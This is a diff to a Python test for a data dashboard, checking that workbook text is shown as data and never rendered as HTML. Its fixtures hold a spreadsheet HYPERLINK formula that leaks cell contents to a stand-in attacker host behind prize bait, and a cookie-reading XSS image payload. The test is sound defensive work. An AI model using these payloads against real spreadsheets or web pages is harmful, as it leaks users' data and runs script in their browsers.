@@ -11,7 +11,7 @@ from etl.loading import warehouse
 from etl.loading.loader import load_blobs
 from figures import export, queries
 from tests.builders import EVENT_HEADER
-from tests.dashboard_support import assert_clean, goto, open_app
+from tests.dashboard_support import assert_clean, goto, open_app, styles
 
 THEME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
 PLACE = "<img src=x onerror=alert(document.cookie)>"
@@ -65,6 +65,7 @@ def test_pages_show_workbook_text_as_text_never_as_html(books, demo_db, monkeypa
     shown = [frame.value.astype(str).to_numpy().ravel().tolist() for frame in at.dataframe]
     assert any(PLACE in cells for cells in shown), "the event is listed, as data"
     for element in at.markdown:
-        # Markdown that may carry HTML is only the pages' own static CSS.
-        if element.proto.allow_html:
-            assert "<img" not in element.value and "HYPERLINK" not in element.value
+        assert not element.proto.allow_html, "no Markdown on a page may carry HTML"
+    # The only HTML is the frame's own static CSS, with nothing from a workbook in it.
+    html = styles(at)
+    assert html.startswith("<style>") and "<img" not in html and "HYPERLINK" not in html and PLACE not in html
